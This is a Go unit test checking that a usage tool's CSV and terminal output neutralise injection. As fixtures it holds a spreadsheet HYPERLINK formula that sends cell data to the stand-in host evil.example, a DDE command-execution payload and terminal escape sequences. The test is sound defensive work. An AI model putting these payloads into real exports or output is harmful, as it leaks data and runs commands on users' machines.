package usage

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// Issue 14: `ferry usage` printed model names and routes as they came, so
// a record's "=HYPERLINK(…)" ran in the spreadsheet the CSV was opened in
// and "\x1b]0;…\a" retitled the terminal.
func TestUsageOutputIsSafe(t *testing.T) {
	rep := UsageReport{By: "model", Rows: []UsageRow{
		{Key: `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{Key: "+1+cmd|' /C calc'!A0"},
		{Key: "-2-3"},
		{Key: "@SUM(1)"},
		{Key: "claude\x1b]0;pwned\x07\x1b[2J\u009b31m-x"},
		{Key: "claude-sonnet-4-5"},
	}}
	var b bytes.Buffer
	if err := WriteUsageCSV(&b, rep); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		if c := r[0]; c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
			t.Errorf("CSV cell %q starts a formula", c)
		}
		if strings.ContainsAny(r[0], "\x1b\x07") {
			t.Errorf("CSV cell %q keeps control characters", r[0])
		}
	}
	if rows[6][0] != "claude-sonnet-4-5" {
		t.Errorf("an ordinary model changed: %q", rows[6][0])
	}
	b.Reset()
	if err := WriteUsageTable(&b, rep); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); strings.ContainsAny(out, "\x1b\x07\u009b") {
		t.Errorf("terminal table keeps escape sequences: %q", out)
	}
}
